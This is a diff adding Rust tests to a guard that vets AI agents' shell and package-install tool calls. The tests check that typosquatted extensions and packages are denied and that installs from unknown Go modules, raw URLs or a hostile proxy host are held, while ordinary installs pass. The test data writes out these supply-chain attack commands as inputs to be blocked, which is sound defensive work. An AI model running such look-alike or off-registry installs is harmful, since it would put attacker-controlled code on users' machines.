@@ -139,3 +139,197 @@ fn a_policy_trusts_its_own_mirror_and_names() {
     let e = ShellGuard::from_settings_json(r#"{"trusted_packages": [" "]}"#).unwrap_err();
     assert!(e.contains("settings.trusted_packages[0]"), "{e}");
 }
+
+/// An editor's extension install is read like a package install: a
+/// look-alike of a popular extension's id is denied, one from a URL held.
+#[test]
+fn editor_extension_installs_are_package_installs() {
+    for cmd in [
+        "code --install-extension ms-pyth0n.python",
+        "cursor --install-extension=esbenp.prettier-vscodee",
+        "code --install-extension golang.go --install-extension dbaeumer.vscode-esilnt",
+    ] {
+        deny(cmd, "shell.package-typo");
+    }
+    escalate(
+        "codium --install-extension https://files.example.net/x-1.0.vsix",
+        "shell.package-source",
+    );
+    for cmd in [
+        "code --install-extension ms-python.python",
+        "code --install-extension rust-lang.rust-analyzer@0.3.2",
+        "code --install-extension ./dist/mine-1.0.vsix",
+        "code --list-extensions",
+        "code .",
+        "cursor src/main.rs",
+    ] {
+        allow(cmd);
+    }
+}
+
+/// `go install`/`go run` of `MODULE@VERSION` builds a repository's program
+/// to run here: held unless the module is among the most installed, a
+/// policy's own, or on its mirror; the project's own packages and `go get`
+/// are not installs of foreign code.
+#[test]
+fn go_installs_of_unknown_modules_are_held() {
+    for cmd in [
+        "go install github.com/x-devtools-2025/gofmtx@latest",
+        "go install -v github.com/x/y/cmd/z@v1.2.3",
+        "go run github.com/x/y@latest --init",
+        "go install -ldflags '-s -w' gitlab.com/x/y@main",
+        "GOPROXY=https://goproxy.evil.example go install golang.org/x/tools/gopls@latest",
+        // A module path that only starts like a known one.
+        "go install golang.org/xtools/gopls@latest",
+        "go install github.com/go-delve/delve-x/cmd/dlv@latest",
+    ] {
+        escalate(cmd, "shell.package-source");
+    }
+    for cmd in [
+        "go install golang.org/x/tools/gopls@latest",
+        "go install github.com/go-delve/delve/cmd/dlv@latest",
+        "go install GitHub.com/golangci/golangci-lint/cmd/golangci-lint@v1.59.1",
+        "go run golang.org/x/tools/cmd/stringer@latest -type=Pill",
+        "go install ./...",
+        "go install .",
+        "go install example.com/me/app/cmd/app",
+        "go install cmd/go",
+        "go run main.go",
+        "go run ./cmd/server -port 8080",
+        "go get github.com/gin-gonic/gin@v1.10.0",
+        "go build -o app ./cmd/app",
+    ] {
+        allow(cmd);
+    }
+    let check = ShellGuard::from_settings_json(
+        r#"{"trusted_package_hosts": ["go.acme.internal"], "trusted_packages": ["github.com/acme"]}"#,
+    )
+    .unwrap();
+    let vet = |cmd: &str| {
+        check
+            .decide(
+                &toolvet_pdk::ToolCall::new(
+                    "bash",
+                    serde_json::json!({ "command": cmd }).to_string(),
+                ),
+                &toolvet_pdk::ToolInfo::default(),
+                &toolvet_pdk::Context::default(),
+            )
+            .kind()
+            .to_string()
+    };
+    assert_eq!(
+        vet("go install go.acme.internal/tools/lint@latest"),
+        "allow"
+    );
+    assert_eq!(
+        vet("go install github.com/acme/deploy/cmd/ship@v2.0.0"),
+        "allow"
+    );
+    assert_eq!(
+        vet("go install github.com/acme-evil/deploy@v2.0.0"),
+        "escalate"
+    );
+}
+
+/// A package manager's install given as structured arguments is judged as
+/// the install command it stands for, whatever the tool is called.
+#[test]
+fn structured_installs_are_judged_as_their_command_line() {
+    let check = ShellGuard::from_settings_json("{}").unwrap();
+    let vet = |tool: &str, args: serde_json::Value| {
+        let d = check.vet(
+            &ToolCall::new(tool, args.to_string()),
+            &toolvet_pdk::Context::default(),
+        );
+        format!("{} {}", d.kind(), d.rule().unwrap_or("-"))
+    };
+    let packager = |system: &str, list: serde_json::Value| {
+        serde_json::json!({"install_or_uninstall": "install", "language_or_system": system,
+            "dependency_list": list})
+    };
+    assert_eq!(
+        vet(
+            "packager_tool",
+            packager("python", serde_json::json!(["reqeusts"]))
+        ),
+        "deny shell.package-typo"
+    );
+    assert_eq!(
+        vet(
+            "packager_tool",
+            packager("nodejs", serde_json::json!(["react-domm"]))
+        ),
+        "deny shell.package-typo"
+    );
+    assert_eq!(
+        vet(
+            "packager_tool",
+            packager("python", serde_json::json!(["git+https://github.com/x/y"]))
+        ),
+        "escalate shell.package-source"
+    );
+    assert_eq!(
+        vet(
+            "install_packages",
+            serde_json::json!({"ecosystem": "PyPI", "packages": "flask, numpi"})
+        ),
+        "deny shell.package-typo"
+    );
+    // The ecosystem from the tool's name, the verb from its name too.
+    assert_eq!(
+        vet("npm_install", serde_json::json!({"package": "lodsah"})),
+        "deny shell.package-typo"
+    );
+    // Registry names pass; an uninstall and a search install nothing, so
+    // the check has no command to judge.
+    assert_eq!(
+        vet(
+            "packager_tool",
+            packager("python", serde_json::json!(["flask", "requests"]))
+        ),
+        "allow -"
+    );
+    assert_eq!(
+        vet(
+            "packager_tool",
+            packager("nodejs", serde_json::json!(["express"]))
+        ),
+        "allow -"
+    );
+    assert_eq!(
+        vet(
+            "packager_tool",
+            serde_json::json!({"install_or_uninstall": "uninstall",
+                "language_or_system": "python", "dependency_list": ["reqeusts"]})
+        ),
+        "abstain -"
+    );
+    assert_eq!(
+        vet("npm_search", serde_json::json!({"package": "lodsah"})),
+        "abstain -"
+    );
+    // An editor extension whose publisher looks like a popular one's.
+    assert_eq!(
+        vet(
+            "install_extension",
+            serde_json::json!({"id": "ms-pyth0n.python", "name": "Python"})
+        ),
+        "deny shell.package-typo"
+    );
+    assert_eq!(
+        vet(
+            "install_extension",
+            serde_json::json!({"id": "ms-python.python", "name": "Python"})
+        ),
+        "allow -"
+    );
+    assert_eq!(
+        effects::packages::structured_install(
+            "packager_tool",
+            &packager("rust", serde_json::json!(["serde", "a b"]))
+        )
+        .as_deref(),
+        Some("cargo add serde a b")
+    );
+}
